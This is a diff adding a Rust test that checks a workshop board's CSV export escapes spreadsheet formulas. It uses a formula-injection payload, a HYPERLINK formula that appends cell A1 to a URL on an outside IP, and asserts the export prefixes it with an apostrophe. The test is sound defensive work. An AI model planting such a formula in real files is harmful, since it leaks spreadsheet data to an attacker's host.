@@ -122,6 +122,34 @@ fn a_workshop_is_told_by_names_and_as_a_tree() {
     );
 }
 
+#[test]
+fn the_cards_are_a_table_in_which_nothing_is_calculated() {
+    let mut writer = Writer::<Board>::new();
+    let sato = By::Person(PersonId(1));
+    let text = "=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"見る\")";
+    let add = |parent, text: &str| BoardOp::AddCard { parent, place: Place::Last, text: text.into(), start: 0 };
+    let first = CardId::from(writer.take(sato, add(CardId::THEME, text)));
+    writer.take(sato, add(first, "活動日が、平日の昼, だけ"));
+    let boards = [(GroupId(1), writer.doc.model), (GroupId(2), board())];
+    let table = Export::new(WorkshopId::default(), &workshop(), &roster(), &boards).table().unwrap();
+    let at = "2024-02-09T08:00:00Z";
+    let rows: Vec<&str> = table.lines().collect();
+    assert_eq!(
+        rows,
+        [
+            "\u{feff}班,課題,なぜの深さ,なぜ？,その結果,しるし,根本原因,書いた人,書いた時刻（UTC）".to_owned(),
+            format!("1,,1,\"'=HYPERLINK(\"\"http://198.51.100.7/?\"\"&A1,\"\"見る\"\")\",,,,佐藤,{at}"),
+            format!(
+                "1,,2,\"活動日が、平日の昼, だけ\",\"'=HYPERLINK(\"\"http://198.51.100.7/?\"\"&A1,\"\"見る\"\")\",,,佐藤,{at}"
+            ),
+            format!("はと,自治会の高齢化,1,若い人が入らない,自治会の高齢化,,,佐藤,{at}"),
+            format!("はと,自治会の高齢化,2,活動日が平日の昼,若い人が入らない,要確認,★,鈴木,{at}"),
+            format!("はと,自治会の高齢化,1,役員が同じ,自治会の高齢化,,,,{at}"),
+        ]
+    );
+    assert_eq!(table.matches("\r\n").count(), rows.len());
+}
+
 /// The first board of an export of this one.
 fn told(board: Board) -> Value {
     let export = Export::new(WorkshopId::default(), &workshop(), &roster(), &[(GroupId(1), board)]);
